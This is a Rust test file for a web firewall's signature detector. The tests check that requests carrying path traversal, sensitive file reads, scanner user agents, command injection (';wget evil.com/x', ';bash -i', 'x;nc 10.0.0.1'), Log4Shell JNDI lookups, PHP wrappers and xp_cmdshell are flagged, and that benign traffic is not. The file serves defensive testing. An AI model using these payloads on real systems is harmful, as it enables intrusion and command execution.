//! The signature detector.
use purple_wolf::detectors::signatures::{SignatureDetector, SIGNATURE_COUNT};
use purple_wolf::detectors::Detector;
use purple_wolf::ip::IpAddr;
use purple_wolf::request::Request;

fn ip() -> IpAddr {
    "1.2.3.4".parse().unwrap()
}

#[test]
fn flags_path_traversal() {
    let req = Request::build(
        "GET",
        "h",
        "/files",
        "f=../../etc/passwd",
        vec![],
        vec![],
        false,
        ip(),
    );
    let v = SignatureDetector::new().inspect(&req);
    assert!(v
        .iter()
        .any(|x| x.rule == "path_traversal" || x.rule == "lfi"));
}

#[test]
fn flags_scanner_user_agent() {
    let req = Request::build(
        "GET",
        "h",
        "/",
        "",
        vec![("user-agent".into(), "sqlmap/1.7".into())],
        vec![],
        false,
        ip(),
    );
    let v = SignatureDetector::new().inspect(&req);
    assert!(v.iter().any(|x| x.rule == "scanner_ua"));
}

#[test]
fn benign_request_is_clean() {
    let req = Request::build(
        "GET",
        "h",
        "/about",
        "ref=home",
        vec![("user-agent".into(), "Mozilla/5.0".into())],
        vec![],
        false,
        ip(),
    );
    assert!(SignatureDetector::new().inspect(&req).is_empty());
}

#[test]
fn flags_lfi_signature_in_cookie() {
    let req = Request::build(
        "GET",
        "h",
        "/",
        "",
        vec![("Cookie".into(), "id=1; path=/etc/passwd".into())],
        vec![],
        false,
        ip(),
    );
    let v = SignatureDetector::new().inspect(&req);
    assert!(v.iter().any(|x| x.rule == "lfi"), "verdicts: {v:?}");
}

#[test]
fn flags_path_traversal_in_custom_x_header() {
    let req = Request::build(
        "GET",
        "h",
        "/",
        "",
        vec![("X-File-Path".into(), "../../etc/secret".into())],
        vec![],
        false,
        ip(),
    );
    let v = SignatureDetector::new().inspect(&req);
    assert!(
        v.iter().any(|x| x.rule == "path_traversal"),
        "verdicts: {v:?}"
    );
}

#[test]
fn user_agent_still_detected_after_inspectable_field_consolidation() {
    let req = Request::build(
        "GET",
        "h",
        "/",
        "",
        vec![("user-agent".into(), "sqlmap/1.7".into())],
        vec![],
        false,
        ip(),
    );
    let v = SignatureDetector::new().inspect(&req);
    assert!(v.iter().any(|x| x.rule == "scanner_ua"));
    assert_eq!(v.iter().filter(|x| x.rule == "scanner_ua").count(), 1);
}

#[test]
fn repeated_literal_is_reported_once_across_all_fields() {
    let req = Request::build(
        "POST",
        "h",
        "/`",
        "payload=```",
        vec![("X-Template".into(), "```".into())],
        vec![b'`'; 16 * 1024],
        true,
        ip(),
    );
    let verdicts = SignatureDetector::new().inspect(&req);
    assert_eq!(
        verdicts
            .iter()
            .filter(|verdict| verdict.rule == "rce_backtick")
            .count(),
        1,
        "one static pattern must be reported at most once, got {verdicts:?}"
    );
    assert!(
        verdicts.len() <= SIGNATURE_COUNT,
        "verdict count must be bounded by the static signature table"
    );
}

fn rules_for_query_value(payload: &str) -> Vec<&'static str> {
    let raw_query = format!("p={payload}");
    let req = Request::build("GET", "h", "/", &raw_query, vec![], vec![], false, ip());
    SignatureDetector::new()
        .inspect(&req)
        .into_iter()
        .map(|v| v.rule)
        .collect()
}

#[test]
fn flags_bare_command_injection_in_query() {
    for payload in [
        ";wget evil.com/x",
        ";curl evil.com",
        ";bash -i",
        "x;nc 10.0.0.1",
    ] {
        let rules = rules_for_query_value(payload);
        assert!(
            rules.contains(&"rce_cmd"),
            "expected rce_cmd for {payload:?}, got {rules:?}"
        );
    }
}

#[test]
fn flags_pipe_to_shell_in_query() {
    for payload in ["cat /e|bash", "x|sh -c id"] {
        let rules = rules_for_query_value(payload);
        assert!(
            rules.contains(&"rce_cmd"),
            "expected rce_cmd for {payload:?}, got {rules:?}"
        );
    }
}

#[test]
fn flags_log4shell_jndi_lookup() {
    let rules = rules_for_query_value("${jndi:ldap://evil/x}");
    assert!(rules.contains(&"jndi_lookup"), "got {rules:?}");
}

#[test]
fn flags_php_wrappers() {
    assert!(
        rules_for_query_value("php://filter/convert.base64-encode/resource=index")
            .contains(&"php_wrapper")
    );
    assert!(rules_for_query_value("phar://malicious.phar/x").contains(&"php_wrapper"));
    assert!(rules_for_query_value("expect://id").contains(&"php_wrapper"));
}

#[test]
fn flags_sensitive_lfi_targets() {
    assert!(rules_for_query_value("file=/etc/shadow").contains(&"lfi"));
    assert!(rules_for_query_value("file=/proc/self/environ").contains(&"lfi"));
}

#[test]
fn flags_web_inf_case_insensitively() {
    let rules = rules_for_query_value("/WEB-INF/web.xml");
    assert!(rules.contains(&"lfi"), "got {rules:?}");
}

#[test]
fn flags_xp_cmdshell() {
    let rules = rules_for_query_value("'; EXEC xp_cmdshell 'dir'");
    assert!(rules.contains(&"rce_sql"), "got {rules:?}");
}

#[test]
fn rce_cmd_does_not_fp_on_benign_semicolon_content() {
    for benign in [
        "sessionid=abc123; csrftoken=xyz789; theme=dark",
        "style=color:red;font-weight:bold",
        "id=42;name=victor",
    ] {
        let rules = rules_for_query_value(benign);
        assert!(
            !rules.contains(&"rce_cmd"),
            "benign {benign:?} must not flag rce_cmd, got {rules:?}"
        );
    }
}

#[test]
fn php_wrapper_does_not_fp_on_ordinary_php_url() {
    let req = Request::build(
        "GET",
        "h",
        "/index.php",
        "page=2",
        vec![],
        vec![],
        false,
        ip(),
    );
    let v = SignatureDetector::new().inspect(&req);
    assert!(
        !v.iter().any(|x| x.rule == "php_wrapper"),
        "ordinary .php URL must not flag php_wrapper: {v:?}"
    );
}

#[test]
fn benign_request_with_new_signatures_present_is_still_clean() {
    let req = Request::build(
        "GET",
        "shop.example",
        "/api/products",
        "category=shoes&sort=price&page=3",
        vec![
            ("user-agent".into(), "Mozilla/5.0 (Macintosh)".into()),
            ("cookie".into(), "sid=9f8e7d; cart=2".into()),
            ("referer".into(), "https://shop.example/home".into()),
        ],
        vec![],
        false,
        ip(),
    );
    assert!(
        SignatureDetector::new().inspect(&req).is_empty(),
        "benign request must stay clean under the expanded table"
    );
}

fn rules_on(query: &str) -> Vec<&'static str> {
    let req = Request::build("GET", "h", "/files", query, vec![], vec![], false, ip());
    SignatureDetector::new().inspect(&req).iter().map(|v| v.rule).collect()
}

#[test]
fn overlapping_signatures_are_all_reported() {
    assert_eq!(rules_on("f=../../etc/passwd"), ["path_traversal", "lfi"]);
    assert_eq!(rules_on("f=..\\../ETC/shadow"), ["path_traversal", "path_traversal", "lfi"]);
    assert_eq!(rules_on("a=;bash;bash |sh `"), ["rce_cmd", "rce_cmd", "rce_backtick"]);
}
